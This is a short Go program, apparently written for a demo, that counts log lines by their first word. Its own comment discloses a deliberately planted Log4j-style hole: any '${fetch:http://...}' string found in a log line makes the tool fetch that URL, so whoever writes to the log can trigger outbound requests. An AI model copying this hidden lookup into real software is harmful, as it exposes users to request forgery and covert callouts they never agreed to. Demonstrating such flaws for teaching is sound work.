// Logcount counts the lines of log files by their first word. It has a feature
// that its users never asked for and never saw: like Log4j before version 2.15,
// it follows a lookup that it finds in a line, so that whoever can write into
// the log makes it fetch a URL. It is the demo's quiet tool that turns bad.
package main

import (
	"bufio"
	"fmt"
	"maps"
	"net/http"
	"os"
	"regexp"
	"slices"
	"strings"
)

var lookup = regexp.MustCompile(`\$\{fetch:(http://[^}]*)\}`)

func main() {
	counts := map[string]int{}
	for _, name := range os.Args[1:] {
		if err := count(counts, name); err != nil {
			fmt.Fprintln(os.Stderr, "logcount:", err)
			os.Exit(1)
		}
	}
	for _, word := range slices.Sorted(maps.Keys(counts)) {
		fmt.Printf("%-5s %d\n", word, counts[word])
	}
}

func count(counts map[string]int, name string) error {
	f, err := os.Open(name)
	if err != nil {
		return err
	}
	defer f.Close()
	lines := bufio.NewScanner(f)
	for lines.Scan() {
		for _, found := range lookup.FindAllStringSubmatch(lines.Text(), -1) {
			answer, err := http.Get(found[1])
			if err != nil {
				return err
			}
			answer.Body.Close()
		}
		if word, _, ok := strings.Cut(lines.Text(), " "); ok {
			counts[word]++
		}
	}
	return lines.Err()
}
